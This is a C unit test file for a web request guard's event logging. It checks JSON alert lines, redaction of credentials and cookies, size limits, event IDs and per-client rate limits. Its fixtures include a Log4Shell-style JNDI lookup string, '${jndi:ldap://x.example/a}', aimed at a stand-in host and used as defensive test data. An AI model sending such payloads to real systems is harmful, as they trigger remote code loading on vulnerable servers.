/* The line of an event, its limits and its secrets; ids; how many events a client may cause. */
#include "unit.h"

#include "base/limits.h"
#include "base/utf8.h"
#include "failalloc.h"
#include "guard/event.h"

static struct guard_finding lookup_in(enum guard_part part, const char *name)
{
    return (struct guard_finding){
        .why = GUARD_LOOKUP,
        .verdict = VERDICT_REACHES,
        .field = {.part = part, .name = slice_str(name)},
        .key = SLICE_LIT("ldap://x.example/a"),
        .chain = {"url", "base64"},
        .chain_count = 2,
    };
}

static struct guard_event event_of(const struct guard_finding *f)
{
    return (struct guard_event){
        .time_ms = 1639126801234,
        .id = SLICE_LIT("0123456789ABCDEFGHJKMNPQRS"),
        .client = SLICE_LIT("203.0.113.7"),
        .host = SLICE_LIT("shop.example.jp"),
        .method = SLICE_LIT("GET"),
        .path = SLICE_LIT("/a"),
        .action = GUARD_BLOCKED,
        .finding = f,
        .text = SLICE_LIT("${jndi:ldap://x.example/a} \"q\""),
        .rules_version = 14,
        .dropped = 3,
    };
}

static void line_is(const struct guard_event *ev, const char *want)
{
    struct buf out;
    buf_init(&out, LIMIT_GUARD_EVENT);
    assert_ok(guard_event_write(ev, &out));
    assert_string_equal(buf_text(&out), want);
    buf_done(&out);
}

static void line_has_ecs_names(void **state)
{
    (void)state;
    struct guard_finding f = lookup_in(GUARD_HEADER, "user-agent");
    struct guard_event ev = event_of(&f);
    line_is(&ev, "{\"@timestamp\":\"2021-12-10T09:00:01.234Z\",\"event\":{\"kind\":\"alert\","
                 "\"category\":[\"intrusion_detection\"],\"action\":\"blocked\","
                 "\"id\":\"0123456789ABCDEFGHJKMNPQRS\"},"
                 "\"client\":{\"address\":\"203.0.113.7\"},"
                 "\"url\":{\"domain\":\"shop.example.jp\",\"path\":\"/a\"},"
                 "\"http\":{\"request\":{\"method\":\"GET\"}},"
                 "\"rule\":{\"name\":\"lookup\",\"version\":\"14\"},"
                 "\"hikeshi\":{\"why\":\"lookup\",\"field\":\"header:user-agent\","
                 "\"verdict\":\"reaches\",\"key\":\"ldap://x.example/a\","
                 "\"chain\":[\"url\",\"base64\"],"
                 "\"text\":\"${jndi:ldap://x.example/a} \\\"q\\\"\",\"dropped\":3}}\n");
    /* a limit, from a client without an address, of a request without a host */
    f = (struct guard_finding){.why = GUARD_LIMIT, .rule = "body-limit"};
    ev = (struct guard_event){.time_ms = 0, .action = GUARD_PASSED, .finding = &f};
    line_is(&ev, "{\"@timestamp\":\"1970-01-01T00:00:00.000Z\",\"event\":{\"kind\":\"alert\","
                 "\"category\":[\"intrusion_detection\"],\"action\":\"passed\"},"
                 "\"rule\":{\"name\":\"body-limit\"},"
                 "\"hikeshi\":{\"why\":\"limit\",\"dropped\":0}}\n");
    f = (struct guard_finding){.why = GUARD_PATCH, .rule = "ORDER-7", .field = {GUARD_URI}};
    ev.action = GUARD_REPORTED;
    line_is(&ev, "{\"@timestamp\":\"1970-01-01T00:00:00.000Z\",\"event\":{\"kind\":\"alert\","
                 "\"category\":[\"intrusion_detection\"],\"action\":\"reported\"},"
                 "\"rule\":{\"name\":\"ORDER-7\"},"
                 "\"hikeshi\":{\"why\":\"patch\",\"field\":\"uri\",\"dropped\":0}}\n");
    f = (struct guard_finding){
        .why = GUARD_LOOKUP,
        .verdict = VERDICT_ATTEMPT,
        .reason = ATTEMPT_BUDGET,
        .field = {.part = GUARD_ARG, .name = SLICE_LIT("q"), .in_name = true}};
    line_is(&ev, "{\"@timestamp\":\"1970-01-01T00:00:00.000Z\",\"event\":{\"kind\":\"alert\","
                 "\"category\":[\"intrusion_detection\"],\"action\":\"reported\"},"
                 "\"rule\":{\"name\":\"lookup\"},"
                 "\"hikeshi\":{\"why\":\"lookup\",\"field\":\"arg:q\",\"in_name\":true,"
                 "\"verdict\":\"attempt\",\"reason\":\"budget\",\"dropped\":0}}\n");
}

static void secrets_stay(void **state)
{
    (void)state;
    static const struct {
        enum guard_part part;
        const char *name;
        bool secret;
    } fields[] = {
        {GUARD_HEADER, "authorization", true},
        {GUARD_HEADER, "proxy-authorization", true},
        {GUARD_HEADER, "cookie", true},
        {GUARD_COOKIE, "sid", true},
        {GUARD_HEADER, "x-api-key", true},
        {GUARD_HEADER, "x-auth-token", true},
        {GUARD_HEADER, "authorization-not", false},
        {GUARD_ARG, "authorization", false},
    };
    for (size_t i = 0; i < ARRAY_LEN(fields); i++) {
        struct guard_finding f = lookup_in(fields[i].part, fields[i].name);
        struct guard_event ev = event_of(&f);
        struct buf out;
        ev.text = SLICE_LIT("hunter2");
        buf_init(&out, LIMIT_GUARD_EVENT);
        assert_ok(guard_event_write(&ev, &out));
        assert_int_equal(strstr(buf_text(&out), "hunter2") == NULL, fields[i].secret);
        assert_int_equal(guard_event_secret(&f.field), fields[i].secret);
        assert_non_null(strstr(buf_text(&out), "ldap://x.example/a")); /* the key is told */
        buf_done(&out);
    }
}

/* What stands behind a lookup that is not closed is in its key; what has no = is a cookie's name.
 */
static void keys_end_before_secrets(void **state)
{
    (void)state;
    static const struct {
        enum verdict verdict;
        const char *key, *want;
    } keys[] = {
        {VERDICT_IF_CLOSED, "ldap://x.example/a; sid=hunter2", "\"key\":\"x.example\""},
        {VERDICT_IF_CLOSED, "ldap://x.example/a:hunter2", "\"key\":\"x.example\""},
        {VERDICT_IF_CLOSED, "ldap://x.example; sid=hunter2", "\"key\":\"x.example\""},
        {VERDICT_ATTEMPT, "ldap://u:hunter2@x.example", "\"key\":\"x.example\""},
        {VERDICT_REACHES, "ldap://x.example/a; sid=hunter2; b=", "\"key\":\"ldap://x.example/a\""},
    };
    for (size_t i = 0; i < 2 * ARRAY_LEN(keys); i++) {
        struct guard_finding f =
            lookup_in(i % 2 ? GUARD_COOKIE : GUARD_ARG, i % 2 ? "hunter2" : "token");
        struct guard_event ev = event_of(&f);
        struct buf out;
        f.verdict = keys[i / 2].verdict;
        f.key = slice_str(keys[i / 2].key);
        f.field.in_name = i % 2;
        ev.text = SLICE_LIT("hunter2");
        ev.secret = i % 2 == 0;
        buf_init(&out, LIMIT_GUARD_EVENT);
        assert_ok(guard_event_write(&ev, &out));
        assert_null(strstr(buf_text(&out), "hunter2"));
        assert_non_null(strstr(buf_text(&out), keys[i / 2].want));
        buf_done(&out);
    }
}

/* Every text at its longest, of bytes that take most room in JSON. */
static void line_has_a_limit(void **state)
{
    (void)state;
    static const char *const units[] = {
        "\x01", "\xff", "\"", "\xe3\x81\x82", "\xf0\x9f\x94\xa5", "a", "\xe2\x80\xae", "\xc2\x9b"};
    enum { LONG = 6000 };
    char *text = malloc(LONG + 1);
    assert_non_null(text);
    for (size_t k = 0; k < 2 * ARRAY_LEN(units); k++) {
        size_t i = k / 2, limit = k % 2 ? LIMIT_GUARD_EVENT_BRIEF : LIMIT_GUARD_EVENT;
        size_t unit = strlen(units[i]), n = 0, valid_to;
        for (; n + unit <= LONG; n += unit)
            memcpy(text + n, units[i], unit);
        text[n] = '\0';
        struct slice s = slice_of(text, n);
        struct guard_finding f = lookup_in(GUARD_ARG, "");
        f.field.name = f.key = s;
        f.rule = text;
        f.chain_count = EXAMINE_LAYERS;
        for (size_t layer = 0; layer < EXAMINE_LAYERS; layer++)
            f.chain[layer] = text;
        struct guard_event ev = event_of(&f);
        ev.id = ev.client = ev.host = ev.method = ev.path = ev.text = s;
        ev.rules_version = ev.dropped = UINT64_MAX;
        ev.brief = k % 2;
        struct buf out;
        buf_init(&out, limit);
        assert_ok(guard_event_write(&ev, &out));
        assert_true(out.n > limit / 4);
        assert_int_equal(out.p[out.n - 1], '\n');
        assert_null(memchr(out.p, '\n', out.n - 1));
        assert_true(utf8_valid(buf_slice(&out), &valid_to)); /* nothing is torn */
        buf_done(&out);
    }
    free(text);
    /* what does not fit is refused, and says so */
    struct guard_finding f = lookup_in(GUARD_ARG, "q");
    struct guard_event ev = event_of(&f);
    struct buf small;
    buf_init(&small, 100);
    assert_int_equal(guard_event_write(&ev, &small), ST_LIMIT);
    buf_done(&small);
}

static void ids_differ(void **state)
{
    (void)state;
    enum { N = 2000 };
    static char ids[N][27];
    uint8_t seen[26][128] = {{0}};
    for (size_t i = 0; i < N; i++) {
        guard_id(ids[i]);
        assert_int_equal(strlen(ids[i]), 26);
        assert_int_equal(strspn(ids[i], "0123456789ABCDEFGHJKMNPQRSTVWXYZ"), 26);
        for (size_t k = 0; k < 26; k++)
            seen[k][(unsigned char)ids[i][k]] = 1;
    }
    for (size_t i = 0; i < N; i++)
        for (size_t k = i + 1; k < N; k++)
            assert_string_not_equal(ids[i], ids[k]);
    /* 128 bits: the first digit has three of them, each other one five */
    for (size_t k = 0; k < 26; k++) {
        size_t n = 0;
        for (size_t c = 0; c < 128; c++)
            n += seen[k][c];
        assert_int_equal(n, k == 0 ? 8 : 32);
    }
}

static struct guard_rate *rate_of(unsigned burst)
{
    struct guard_rate *r = NULL;
    assert_ok(guard_rate_new(burst, &r));
    return r;
}

static bool take(struct guard_rate *r, const char *addr, size_t n, int64_t now, uint64_t dropped)
{
    uint64_t got = 12345;
    bool may = guard_rate_take(r, slice_of(addr, n), now, &got);
    assert_int_equal(got, may ? dropped : 12345);
    return may;
}

static void clients_have_a_rate(void **state)
{
    (void)state;
    struct guard_rate *r = rate_of(3);
    const char a[] = "\x0a\0\0\1", b[] = "\x0a\0\0\2";
    for (int i = 0; i < 3; i++)
        assert_true(take(r, a, 4, 1000, 0));
    assert_false(take(r, a, 4, 1999, 0));
    assert_false(take(r, a, 4, 1999, 0));
    assert_true(take(r, b, 4, 1999, 0)); /* another one is not concerned */
    assert_true(take(r, a, 4, 2000, 2)); /* a second later one more, and what was dropped */
    assert_false(take(r, a, 4, 2999, 0));
    assert_true(take(r, a, 4, 3000, 1));
    for (int i = 0; i < 3; i++) /* not more than the burst, however long it was quiet */
        assert_true(take(r, a, 4, 1000000000, 0));
    assert_false(take(r, a, 4, 1000000000, 0));
    assert_false(take(r, a, 4, 5000, 0)); /* a clock that is set back stops nothing for long */
    assert_true(take(r, a, 4, 6000, 2));
    guard_rate_lost(r, slice_of(a, 4), 6000, 3); /* and could not be written, with what it told */
    assert_false(take(r, a, 4, 6000, 0));
    assert_true(take(r, a, 4, 7000, 4));
    guard_rate_free(r);
    guard_rate_free(NULL);
}

static void addresses_are_told_apart(void **state)
{
    (void)state;
    struct guard_rate *r = rate_of(1);
    char v6[16] = "\x20\x01\x0d\xb8\0\1\0\2abcdefgh", other[16], near[16];
    memcpy(near, v6, 16);
    near[15] = 'x';
    memcpy(other, v6, 16);
    other[7] = 'x';
    assert_true(take(r, v6, 16, 0, 0));
    assert_false(take(r, near, 16, 0, 0)); /* of the same /64 */
    assert_true(take(r, other, 16, 0, 0));
    assert_true(take(r, "", 0, 0, 0)); /* a local socket */
    assert_false(take(r, "abc", 3, 0, 0));
    assert_true(take(r, "\0\0\0\0", 4, 0, 0));
    /* a server that listens on [::] hands in IPv4 addresses like these */
    char mapped[16] = {[10] = '\xff', '\xff', 10, 0, 0, 1};
    assert_true(take(r, mapped, 16, 0, 0));
    assert_false(take(r, mapped + 12, 4, 0, 0));
    mapped[15] = 2;
    assert_true(take(r, mapped, 16, 0, 0));
    guard_rate_free(r);
}

/* One client more than there are places: the one unseen for longest goes, nobody else. */
static void places_are_limited(void **state)
{
    (void)state;
    for (int more = -1; more <= 1; more++) {
        struct guard_rate *r = rate_of(1);
        uint32_t n = (uint32_t)(LIMIT_GUARD_CLIENTS + more);
        for (uint32_t i = 0; i < n; i++)
            assert_true(take(r, (char *)&i, 4, 0, 0));
        /* newest first, so that a client that comes back pushes out one that was asked already */
        for (uint32_t i = n; i-- > 0;) {
            bool gone = more > 0 && i == 0;
            assert_int_equal(take(r, (char *)&i, 4, 0, 0), gone);
        }
        guard_rate_free(r);
    }
}

/* Clients come and go at random: chains and ages stay whole, and one that is seen all the time is
 * never taken for a new one. */
static void places_are_used_again(void **state)
{
    (void)state;
    struct guard_rate *r = rate_of(1);
    uint32_t seed = 1, constant = 0xffffffff;
    assert_true(take(r, (char *)&constant, 4, 0, 0));
    for (int i = 0; i < 200000; i++) {
        uint64_t dropped = 0;
        seed = seed * 1664525 + 1013904223;
        uint32_t addr = (seed >> 8) % 10000;
        (void)guard_rate_take(r, slice_of(&addr, 4), 0, &dropped);
        if (i % 1000 == 0)
            assert_false(take(r, (char *)&constant, 4, 0, 0));
    }
    guard_rate_free(r);
}

static void memory_runs_out(void **state)
{
    (void)state;
    struct guard_rate *r = NULL;
    failalloc_at(1);
    assert_int_equal(guard_rate_new(1, &r), ST_NOMEM);
    assert_true(failalloc_hit());
    assert_null(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(line_has_ecs_names),
        cmocka_unit_test(secrets_stay),
        cmocka_unit_test(keys_end_before_secrets),
        cmocka_unit_test(line_has_a_limit),
        cmocka_unit_test(ids_differ),
        cmocka_unit_test(clients_have_a_rate),
        cmocka_unit_test(addresses_are_told_apart),
        cmocka_unit_test(places_are_limited),
        cmocka_unit_test(places_are_used_again),
        cmocka_unit_test(memory_runs_out),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
